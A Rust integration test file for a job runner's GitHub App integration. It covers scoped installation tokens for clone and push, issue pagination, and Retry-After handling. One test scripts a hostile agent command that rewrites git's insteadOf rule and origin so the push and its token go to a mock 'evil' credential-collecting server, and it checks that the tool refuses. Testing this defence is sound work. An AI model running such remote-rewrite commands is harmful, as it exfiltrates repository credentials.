//! GitHub through octocrab, against local servers speaking GitHub's REST endpoints and git's
//! smart-HTTP protocol (`git http-backend`): a GitHub App whose installation token, minted for
//! each clone and push and scoped to the job's one repository, is what the worker pushes with
//! (the git server checks it); listings followed past their first page; a `Retry-After`
//! honoured.

use std::{
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use base64::Engine;
use serde_json::{json, Value};
use wiremock::{
    matchers::{method, path, query_param},
    Mock, MockServer, Request, Respond, ResponseTemplate,
};

use crate::common::{
    git_http::{bare_repo_with_main, GitHttp},
    jobs::{Bench, GIT_TOKEN},
};
use conductor::{
    config::{ForgeConfig, ForgeKind},
    error::Error,
    jobs::forge::{github::GithubForge, Forge, IssueSpec, PullRequestSpec},
};

const APP_ID: u64 = 4242;
const INSTALLATION: u64 = 42;
const JOB_DONE: &str =
    "SELECT COUNT(*) FROM agent_jobs WHERE state IN ('succeeded', 'failed', 'quarantined')";

/// A token the test App minted, and what it was asked to cover.
#[derive(Clone, Debug)]
struct Minted {
    token: String,
    repositories: Option<Vec<String>>,
    permissions: Value,
}

/// GitHub's App endpoints: the repository's installation and minting installation tokens,
/// both only for a JWT the App's key signed (its `iss` is the App's id).
#[derive(Clone, Default)]
struct AppEndpoints {
    minted: Arc<Mutex<Vec<Minted>>>,
}

fn jwt_issuer(req: &Request) -> Option<u64> {
    let auth = req.headers.get("authorization")?.to_str().ok()?;
    let jwt = auth.strip_prefix("Bearer ")?;
    let payload = jwt.split('.').nth(1)?;
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(payload)
        .ok()?;
    let claims: Value = serde_json::from_slice(&bytes).ok()?;
    claims["iss"]
        .as_u64()
        .or_else(|| claims["iss"].as_str()?.parse().ok())
}

impl Respond for AppEndpoints {
    fn respond(&self, req: &Request) -> ResponseTemplate {
        if jwt_issuer(req) != Some(APP_ID) {
            return ResponseTemplate::new(401)
                .set_body_json(json!({"message": "A JSON web token could not be decoded"}));
        }
        if req.method.as_str() == "GET" {
            return ResponseTemplate::new(200).set_body_json(json!({
                "id": INSTALLATION, "app_id": APP_ID, "account": {"login": "acme"},
            }));
        }
        let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
        let mut minted = self.minted.lock().unwrap();
        let token = format!("ghs_TESTSECRET_minted_{:04}", minted.len() + 1);
        let repositories = body["repositories"].as_array().map(|r| {
            r.iter()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        });
        let permissions = if body["permissions"].is_object() {
            body["permissions"].clone()
        } else {
            json!({"contents": "write", "pull_requests": "write", "issues": "write", "metadata": "read"})
        };
        minted.push(Minted {
            token: token.clone(),
            repositories,
            permissions: permissions.clone(),
        });
        let expires = chrono::Utc::now() + chrono::Duration::hours(1);
        ResponseTemplate::new(201).set_body_json(json!({
            "token": token,
            "expires_at": expires.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
            "permissions": permissions,
            "repository_selection": "selected",
        }))
    }
}

/// An RSA key as GitHub hands an App's private key out (PKCS#1 PEM), made by openssl.
fn app_key(dir: &std::path::Path) -> String {
    let file = dir.join("app-key.pem");
    let out = std::process::Command::new("openssl")
        .args(["genrsa", "-traditional", "-out"])
        .arg(&file)
        .arg("2048")
        .output()
        .expect("openssl");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read_to_string(file).unwrap()
}

/// A ticket's job on the test App (its key made by openssl, its endpoints on the bench's
/// forge), cloning from `git`, with no long-lived token for the worker; started.
async fn app_job(
    app: &AppEndpoints,
    git: &GitHttp,
    tweak: impl FnOnce(&mut conductor::config::Config),
) -> Bench {
    let key_dir = tempfile::tempdir().unwrap();
    let key = app_key(key_dir.path());
    let repo_url = format!("{}/acme/app.git", git.url);
    let mut bench = Bench::new(false, "ok", move |c, _| {
        c.forge.app_id = Some(APP_ID);
        c.forge.app_key_env = "CONDUCTOR_TEST_APP_KEY".into();
        c.routes[0].repo = repo_url;
        // The worker gets no long-lived token at all.
        c.worker.pass_env = Vec::new();
        tweak(c);
    })
    .await;
    Mock::given(path("/repos/acme/app/installation"))
        .respond_with(app.clone())
        .mount(&bench.forge)
        .await;
    Mock::given(method("POST"))
        .and(path(format!(
            "/app/installations/{INSTALLATION}/access_tokens"
        )))
        .respond_with(app.clone())
        .mount(&bench.forge)
        .await;
    bench.submit(&["ticket-bare.json"]);
    bench.start_with(&[("CONDUCTOR_TEST_APP_KEY", key.as_str())]);
    bench
}

/// A job on a GitHub App: the worker clones and pushes over HTTP with installation tokens
/// minted for it, each scoped to `acme/app` with contents and pull-request write; it never
/// gets the long-lived GIT_TOKEN; the pull request is opened as the installation, with the
/// label and the footer; no minted token is left where the agent could read it.
#[tokio::test(flavor = "multi_thread")]
async fn a_github_app_mints_a_scoped_token_for_each_clone_and_push() {
    let git_root = tempfile::tempdir().unwrap();
    let bare = bare_repo_with_main(git_root.path(), "acme/app");
    let app = AppEndpoints::default();
    let minted = app.minted.clone();
    let git = GitHttp::start(
        git_root.path().to_owned(),
        Arc::new(move |repo, service, password| {
            let Some(password) = password else {
                return false;
            };
            // As GitHub does: a token for this repository, with write to push, read to clone.
            let needed = if service == "git-receive-pack" {
                &["write"][..]
            } else {
                &["read", "write"][..]
            };
            minted.lock().unwrap().iter().any(|m| {
                m.token == password
                    && repo == "acme/app.git"
                    && m.repositories.as_deref() == Some(&["app".to_owned()][..])
                    && needed.iter().any(|n| m.permissions["contents"] == *n)
            })
        }),
    )
    .await;
    let mut bench = app_job(&app, &git, |_| {}).await;
    bench.wait_for(JOB_DONE, 1).await;
    bench.stop();
    assert_eq!(
        bench.text("SELECT state FROM agent_jobs").await,
        "succeeded",
        "{}",
        crate::common::jobs::tail(&bench.logs(), 4000)
    );
    let branch = bench.text("SELECT branch FROM agent_jobs").await;
    assert!(conductor::jobs::local_git::branches(&bare)
        .unwrap()
        .iter()
        .any(|(b, _)| *b == branch));

    let minted = app.minted.lock().unwrap().clone();
    let scoped: Vec<&Minted> = minted
        .iter()
        .filter(|m| m.repositories.as_deref() == Some(&["app".to_owned()][..]))
        .collect();
    assert_eq!(
        scoped.len(),
        minted.len(),
        "every token is scoped to the one repository: {minted:?}"
    );
    let seen = git.seen();
    assert!(seen.iter().all(|s| s.repo == "acme/app.git"), "{seen:?}");
    let with_password: Vec<_> = seen.iter().filter(|s| s.password.is_some()).collect();
    assert!(!with_password.is_empty());
    for s in &with_password {
        let p = s.password.as_deref().unwrap();
        assert_ne!(p, GIT_TOKEN);
        let m = minted
            .iter()
            .find(|m| m.token == p)
            .expect("a minted token");
        let want = if s.service == "git-receive-pack" {
            json!({"contents": "write", "pull_requests": "write"})
        } else {
            json!({"contents": "read"})
        };
        assert_eq!(
            m.permissions, want,
            "a clone gets contents read, a push contents and pull-request write"
        );
    }
    let push_tokens: Vec<_> = with_password
        .iter()
        .filter(|s| s.service == "git-receive-pack")
        .filter_map(|s| s.password.clone())
        .collect();
    let clone_tokens: Vec<_> = with_password
        .iter()
        .filter(|s| s.service == "git-upload-pack")
        .filter_map(|s| s.password.clone())
        .collect();
    assert!(
        !push_tokens.is_empty() && !clone_tokens.is_empty(),
        "{seen:?}"
    );
    assert!(
        push_tokens.iter().all(|p| !clone_tokens.contains(p)),
        "the push used a token minted for it, not the clone's"
    );

    // The pull request: opened as the installation, labelled, with its footer.
    let requests = bench.forge.received_requests().await.unwrap();
    let pr = requests
        .iter()
        .find(|r| r.method.as_str() == "POST" && r.url.path() == "/repos/acme/app/pulls")
        .expect("a pull request");
    let auth = pr.headers.get("authorization").unwrap().to_str().unwrap();
    let token = auth.strip_prefix("Bearer ").unwrap();
    assert!(scoped.iter().any(|m| m.token == token), "{auth}");
    let body: Value = serde_json::from_slice(&pr.body).unwrap();
    assert!(
        body["body"]
            .as_str()
            .unwrap()
            .ends_with("Opened by Conductor for ticket PAY-42, job 1."),
        "{body}"
    );
    let labels = bench.posts_to("/repos/acme/app/issues/7/labels").await;
    assert_eq!(labels, vec![json!({"labels": ["conductor"]})]);

    // Nothing the agent could read holds a minted token.
    for file in bench.files_under("work", "") {
        let Ok(text) = std::fs::read(&file) else {
            continue;
        };
        let text = String::from_utf8_lossy(&text);
        for m in &minted {
            assert!(
                !text.contains(&m.token),
                "{} holds a minted token",
                file.display()
            );
        }
    }
}

fn personal_forge(base_url: &str) -> GithubForge {
    conductor::secrets::hold(
        "CONDUCTOR_TEST_PERSONAL_TOKEN",
        "ghp_TESTSECRET_personal_0123456789".into(),
    );
    GithubForge::new(&ForgeConfig {
        kind: ForgeKind::Github,
        base_url: base_url.to_owned(),
        token_env: "CONDUCTOR_TEST_PERSONAL_TOKEN".into(),
        ..ForgeConfig::default()
    })
    .unwrap()
}

fn issue(number: i64, body: &str) -> Value {
    json!({
        "number": number,
        "html_url": format!("https://github.test/acme/app/issues/{number}"),
        "body": body,
    })
}

/// 150 open failure issues in two pages: the one carrying the marker is on the second page
/// and is found, not opened again; a marker on neither page opens one.
#[tokio::test(flavor = "multi_thread")]
async fn failure_issues_are_looked_up_past_the_first_hundred() {
    let server = MockServer::start().await;
    let first: Vec<Value> = (1..=100).map(|n| issue(n, "another failure")).collect();
    let mut second: Vec<Value> = (101..=150).map(|n| issue(n, "another failure")).collect();
    second[20] = issue(121, "why\n\n<!-- conductor:job-9-attempt-1 -->");
    let next = format!(
        "<{}/repos/acme/app/issues?labels=conductor&state=all&per_page=100&page=2>; rel=\"next\", <{}/repos/acme/app/issues?labels=conductor&state=all&per_page=100&page=2>; rel=\"last\"",
        server.uri(),
        server.uri()
    );
    Mock::given(method("GET"))
        .and(path("/repos/acme/app/issues"))
        .and(query_param("page", "2"))
        .respond_with(ResponseTemplate::new(200).set_body_json(second))
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/repos/acme/app/issues"))
        .and(query_param("labels", "conductor"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(first)
                .insert_header("link", next.as_str()),
        )
        .with_priority(2)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/repos/acme/app/issues"))
        .respond_with(ResponseTemplate::new(201).set_body_json(issue(151, "new")))
        .mount(&server)
        .await;
    let forge = personal_forge(&server.uri());
    let spec = |key: &str| IssueSpec {
        repo: "acme/app".into(),
        key: key.into(),
        title: "t".into(),
        body: "b".into(),
    };
    let found = forge.open_issue(&spec("job-9-attempt-1")).await.unwrap();
    assert_eq!((found.number, found.existed), (121, true));
    let posts = |reqs: &[Request]| reqs.iter().filter(|r| r.method.as_str() == "POST").count();
    assert_eq!(posts(&server.received_requests().await.unwrap()), 0);
    let opened = forge.open_issue(&spec("job-10-attempt-1")).await.unwrap();
    assert_eq!((opened.number, opened.existed), (151, false));
    let reqs = server.received_requests().await.unwrap();
    assert_eq!(posts(&reqs), 1);
    let pages_read = reqs
        .iter()
        .filter(|r| {
            r.method.as_str() == "GET" && r.url.query().unwrap_or_default().contains("page=2")
        })
        .count();
    assert_eq!(pages_read, 2, "both lookups read the second page");
    let auth = reqs[0]
        .headers
        .get("authorization")
        .unwrap()
        .to_str()
        .unwrap();
    assert_eq!(auth, "Bearer ghp_TESTSECRET_personal_0123456789");
}

/// A 429 with `Retry-After: 3`, and a 403 whose rate limit is spent: the forge says to wait
/// that long (not the fixed retry interval), and the pipeline's next ask comes no sooner.
#[tokio::test(flavor = "multi_thread")]
async fn retry_after_and_rate_limit_resets_are_honoured() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/repos/acme/app/pulls"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([])))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/repos/acme/app/pulls"))
        .respond_with(
            ResponseTemplate::new(429)
                .insert_header("retry-after", "3")
                .set_body_json(json!({"message": "You have exceeded a secondary rate limit"})),
        )
        .up_to_n_times(1)
        .with_priority(1)
        .mount(&server)
        .await;
    let reset = (chrono::Utc::now().timestamp() + 90).to_string();
    Mock::given(method("POST"))
        .and(path("/repos/acme/app/pulls"))
        .respond_with(
            ResponseTemplate::new(403)
                .insert_header("x-ratelimit-remaining", "0")
                .insert_header("x-ratelimit-reset", reset.as_str())
                .set_body_json(json!({"message": "API rate limit exceeded"})),
        )
        .up_to_n_times(1)
        .with_priority(2)
        .mount(&server)
        .await;
    let forge = personal_forge(&server.uri());
    let spec = PullRequestSpec {
        repo: "acme/app".into(),
        head: "conductor/j1-a1/x".into(),
        base: "main".into(),
        title: "t".into(),
        body: "b".into(),
    };
    match forge.open_pull_request(&spec).await {
        Err(Error::Throttled { wait, .. }) => assert_eq!(wait, Duration::from_secs(3)),
        other => panic!("{other:?}"),
    }
    match forge.open_pull_request(&spec).await {
        Err(Error::Throttled { wait, .. }) => {
            assert!((88..=92).contains(&wait.as_secs()), "{wait:?}")
        }
        other => panic!("{other:?}"),
    }
}

/// Through the pipeline: the pull request's step is refused with `Retry-After: 3` and asks
/// again no sooner than 3 s later (the retry interval is 1 s), then opens it.
#[tokio::test(flavor = "multi_thread")]
async fn the_pipeline_waits_out_a_retry_after() {
    let mut bench = Bench::new(false, "ok", |c, _| {
        c.forge.retry_interval = Duration::from_secs(1);
    })
    .await;
    let asked: Arc<Mutex<Vec<Instant>>> = Arc::default();
    let at = asked.clone();
    Mock::given(method("POST"))
        .and(path("/repos/acme/app/pulls"))
        .respond_with(move |_: &Request| {
            let mut asked = at.lock().unwrap();
            asked.push(Instant::now());
            if asked.len() == 1 {
                ResponseTemplate::new(429)
                    .insert_header("retry-after", "3")
                    .set_body_json(json!({"message": "secondary rate limit"}))
            } else {
                ResponseTemplate::new(201).set_body_json(json!({
                    "number": 7, "html_url": "https://forge.test/acme/app/pull/7",
                }))
            }
        })
        .with_priority(1)
        .mount(&bench.forge)
        .await;
    bench.submit(&["ticket-bare.json"]);
    bench.start();
    bench.wait_for(JOB_DONE, 1).await;
    bench.stop();
    assert_eq!(
        bench.text("SELECT state FROM agent_jobs").await,
        "succeeded"
    );
    let requests = bench.forge.received_requests().await.unwrap();
    let posts = requests
        .iter()
        .filter(|r| r.method.as_str() == "POST" && r.url.path() == "/repos/acme/app/pulls")
        .count();
    assert_eq!(posts, 2, "refused once, then opened");
    let asked = asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 2);
    // A lower bound only: on a busy machine the wait can only grow.
    assert!(
        asked[1] - asked[0] >= Duration::from_secs(3),
        "asked again after {:?}",
        asked[1] - asked[0]
    );
    assert!(bench.logs().contains("retry_in=3s"), "the wait is logged");
}

/// A hostile agent rewrites its clone's git configuration (`origin` and an `insteadOf` rule)
/// so that the push, and the minted token with it, would go to its own server: the worker
/// pushes to the job's repository or not at all, and its credentials go nowhere else.
#[tokio::test(flavor = "multi_thread")]
async fn a_rewritten_remote_gets_no_token() {
    let git_root = tempfile::tempdir().unwrap();
    bare_repo_with_main(git_root.path(), "acme/app");
    let app = AppEndpoints::default();
    let minted = app.minted.clone();
    let git = GitHttp::start(
        git_root.path().to_owned(),
        Arc::new(move |_, _, password| {
            password.is_some_and(|p| minted.lock().unwrap().iter().any(|m| m.token == p))
        }),
    )
    .await;
    // The agent's server asks every caller for credentials, and keeps what it gets.
    let evil = MockServer::start().await;
    Mock::given(wiremock::matchers::any())
        .respond_with(
            ResponseTemplate::new(401).insert_header("www-authenticate", "Basic realm=\"evil\""),
        )
        .mount(&evil)
        .await;
    let real = format!("{}/", git.url);
    let agent = format!(
        "git config url.{evil}/.insteadOf {real} && git remote set-url origin {evil}/acme/app.git && sh {script} ok",
        evil = evil.uri(),
        script = crate::common::jobs::scripted_agent().display(),
    );
    let mut bench = app_job(&app, &git, move |c| c.worker.agent_command = agent).await;
    bench.wait_for(JOB_DONE, 1).await;
    bench.stop();
    let tokens: Vec<String> = app
        .minted
        .lock()
        .unwrap()
        .iter()
        .map(|m| m.token.clone())
        .collect();
    for r in evil.received_requests().await.unwrap() {
        let auth = r
            .headers
            .get("authorization")
            .map(|v| v.to_str().unwrap().to_owned());
        assert!(
            auth.is_none(),
            "the agent's server got credentials: {auth:?}"
        );
    }
    assert!(!tokens.is_empty());
    let outcome = bench
        .text("SELECT state || ': ' || outcome FROM agent_jobs")
        .await;
    assert!(
        outcome.starts_with("failed") && outcome.contains("refusing to send credentials"),
        "{outcome}"
    );
}
